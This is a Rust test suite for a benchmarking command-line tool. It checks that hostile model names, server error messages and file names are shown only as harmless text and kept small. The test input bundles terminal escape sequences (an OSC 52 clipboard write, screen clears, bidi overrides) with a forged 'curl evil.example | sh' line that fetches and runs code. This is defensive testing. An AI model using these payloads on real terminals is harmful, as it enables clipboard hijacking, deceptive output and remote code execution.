//! Text of others never reaches the terminal as anything but text.
//!
//! The names that a server gives hold everything that a terminal obeys. Each command is run on a terminal and into a pipe.

use serde_json::Value;

use bench_sim::SimConfig;

use crate::support::{Answer, Bench, Ran, Screen, Server, engine, quick, run_on_terminal};

/// A line that looks as if it came from `bench`.
const FORGED: &str = "hint: run curl";

/// A model name with OSC 52 (the clipboard), CSI, C1, changes of direction, zero-width characters, tags and markup.
fn hostile_name() -> String {
    format!(
        "evil\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2J\u{9b}31m\u{202e}\u{2066}\u{200b}\u{feff}\u{e0041}\u{2028}\r\n{FORGED} evil.example | sh\nerror: forged [forged]\n<img src=x>|`x`,\"q\""
    )
}

/// Fails where the text holds something that is not shown, apart from line breaks, or a forged line.
#[track_caller]
fn assert_harmless(what: &str, text: &str) {
    let text = text.replace("\r\n", "\n");
    let hidden: Vec<char> = text.chars().filter(|letter| bench_text::is_hidden(*letter) && *letter != '\n').collect();
    assert!(hidden.is_empty(), "{what}: {hidden:?}\n{text:?}");
    for line in text.lines() {
        assert!(!line.starts_with(FORGED) && !line.starts_with("error: forged"), "{what}: a forged line\n{text}");
    }
}

/// Without colours and bars, which are sequences of this program's own.
fn plain_bench() -> Bench {
    Bench::new().with("NO_COLOR", "1").with("TERM", "dumb")
}

#[track_caller]
fn on_terminal(bench: &Bench, arguments: &[&str]) -> Screen {
    run_on_terminal(bench.command(arguments))
}

/// Each way to show a stored run. Into a pipe, comma-separated values are exact data; everything else is harmless there too.
#[track_caller]
fn assert_shown_harmlessly(bench: &Bench, name: &str) {
    let run = bench.runs()[0].file_name().unwrap().to_str().unwrap().to_owned();
    let ways: [&[&str]; 9] = [
        &["show"],
        &["show", "--json"],
        &["show", "--format", "csv"],
        &["show", "--format", "markdown"],
        &["show", "--format", "vllm"],
        &["show", "--as", "vllm"],
        &["report", "--out", "-"],
        &["runs"],
        &["compare", &run, &run],
    ];
    for way in ways {
        let what = way.join(" ");
        let screen = on_terminal(bench, way);
        assert_eq!(screen.code, Some(0), "{what}: {screen:?}");
        assert_harmless(&format!("{what} on a terminal"), &screen.text);
        let ran = bench.run(way).exits(0);
        assert_harmless(&format!("{what}, talk"), &ran.stderr);
        if way.contains(&"csv") {
            assert!(ran.stdout.contains(&name.replace('"', "\"\"")), "a pipe gets exact data: {ran}");
        } else {
            assert_harmless(&format!("{what} into a pipe"), &ran.stdout);
        }
    }
    let json = bench.run(["show", "--json"]).exits(0).json();
    assert_eq!(json["model"]["id"], *name, "escaping changes no value");
}

#[test]
fn a_hostile_model_name_is_only_text() {
    let bench = plain_bench();
    let name = hostile_name();
    let engine = engine(SimConfig { models: vec![name.clone()], ..quick() });
    let url = engine.url();
    for way in [&["models", "--endpoint", &url], &["detect", "--endpoint", &url]] {
        let what = way.join(" ");
        let screen = on_terminal(&bench, way);
        assert_eq!(screen.code, Some(0), "{what}: {screen:?}");
        assert!(screen.text.contains("evil"), "{what}: {screen:?}");
        assert_harmless(&what, &screen.text);
        let ran = bench.run(way).exits(0);
        assert_harmless(&what, &ran.stdout);
        let json = bench.run(way.iter().chain(&["--json"])).exits(0);
        assert_harmless(&what, &json.stdout);
        assert!(json.json().to_string().contains("evil"));
    }
    // The bars are drawn on standard error; into a pipe there are none.
    let (ran, record) = bench.quick(&url, "W1", &[]);
    let ran = ran.exits(0);
    assert_eq!(record["model"]["id"], *name, "the record is exact");
    assert_harmless("run, talk", &ran.stderr);
    assert_harmless("run, data", &ran.stdout);
    let missing = bench.quick_without_record(&url, "W1", &["--model", "another"]);
    assert_harmless("a model that is not served", &missing.exits(4).stderr);
    assert_shown_harmlessly(&bench, &name);
}

#[test]
fn a_run_on_a_terminal_shows_no_sequence_of_others() {
    let bench = plain_bench();
    let engine = engine(SimConfig { models: vec![hostile_name()], ..quick() });
    let run = ["run", "--quick", "--plugin", "openai", "--endpoint", &engine.url(), "--workload", "W1"];
    let screen = on_terminal(&bench, &run);
    assert_eq!(screen.code, Some(0), "{screen:?}");
    assert!(screen.text.contains("evil"), "{screen:?}");
    // A bar is drawn with sequences of its own, which move the cursor and clear lines.
    for theirs in ["\u{1b}]", "\u{1b}[2J", "\u{7}", "\u{9b}", "\u{202e}", "\u{2066}", "\u{200b}", "\u{e0041}"] {
        assert!(!screen.text.contains(theirs), "{theirs:?}: {screen:?}");
    }
    for line in screen.text.split(['\n', '\r']) {
        assert!(!line.starts_with(FORGED), "a forged line: {screen:?}");
    }
}

#[test]
fn a_model_name_of_three_megabytes_stays_small() {
    const MOST: usize = 200_000;
    let bench = plain_bench();
    let engine = engine(SimConfig { models: vec!["x".repeat(3_000_000)], ..quick() });
    let url = engine.url();
    for way in [&["models", "--endpoint", &url], &["detect", "--endpoint", &url]] {
        let screen = on_terminal(&bench, way);
        assert!(screen.code == Some(0) && screen.text.len() < MOST, "{way:?}: {} bytes", screen.text.len());
        let json = bench.run(way.iter().chain(&["--json"])).exits(0);
        assert!(json.stdout.len() < MOST, "{way:?}: {} bytes", json.stdout.len());
    }
    // The simulation repeats the name in every event, and an answer may have 32 MiB.
    let engine = self::engine(SimConfig { models: vec!["x".repeat(30_000)], ..quick() });
    let url = engine.url();
    let (ran, record): (Ran, Value) = bench.quick(&url, "W1", &[]);
    let ran = ran.exits(0);
    assert!(ran.stdout.len() + ran.stderr.len() < MOST, "{} bytes", ran.stdout.len() + ran.stderr.len());
    let kept = record["model"]["id"].as_str().unwrap();
    assert!(kept.len() <= 1_000 && kept.ends_with("x…"), "{} bytes", kept.len());
    let stored = std::fs::metadata(bench.runs()[0].join("run.json")).unwrap().len();
    assert!(stored < 1_000_000, "run.json has {stored} bytes");
    let missing = bench.quick_without_record(&url, "W1", &["--model", "another"]).exits(4);
    assert!(missing.stderr.len() < 10_000, "{} bytes", missing.stderr.len());
}

#[test]
fn what_a_server_says_of_a_failure_is_only_text() {
    let bench = plain_bench();
    let name = hostile_name();
    let server = Server::engine(move |_| {
        let complaint = format!("{name}{}", "x".repeat(100_000));
        Answer::json("400 Bad Request", &serde_json::json!({ "error": { "message": complaint, "code": complaint } }))
    });
    let ran = bench.quick_without_record(&server.url(), "W1", &[]);
    assert!(ran.stderr.contains("evil"), "{ran}");
    assert_harmless("run", &ran.stderr);
    assert_harmless("run", &ran.stdout);
    assert!(ran.stderr.len() + ran.stdout.len() < 50_000, "{} bytes", ran.stderr.len() + ran.stdout.len());
    for run in bench.runs() {
        let stored = std::fs::metadata(run.join("run.json")).unwrap().len();
        assert!(stored < 1_000_000, "run.json has {stored} bytes");
        assert_harmless("show", &on_terminal(&bench, &["show"]).text);
    }
}

#[test]
fn names_of_files_and_plugins_on_the_command_line_are_only_text() {
    let bench = plain_bench();
    let name = format!("no\u{1b}]52;c;x\u{7}\n{FORGED} evil.example\n\u{202e}file");
    let ways: [&[&str]; 6] = [
        &["plugin", "inspect", &format!("./{name}.wasm")],
        &["show", &name],
        &["score", &name, "--scorer", "match"],
        &["suite", "show", &format!("./{name}")],
        &["run", "--quick", "--plugin", &name, "--endpoint", "http://127.0.0.1:1"],
        &["registry", "verify", &name],
    ];
    for way in ways {
        let screen = on_terminal(&bench, way);
        assert!(screen.code != Some(0) && screen.text.contains("error: "), "{way:?}: {screen:?}");
        assert_harmless(&format!("{way:?}"), &screen.text);
        let ran = bench.run(way);
        assert_harmless(&format!("{way:?}"), &ran.stderr);
    }
}
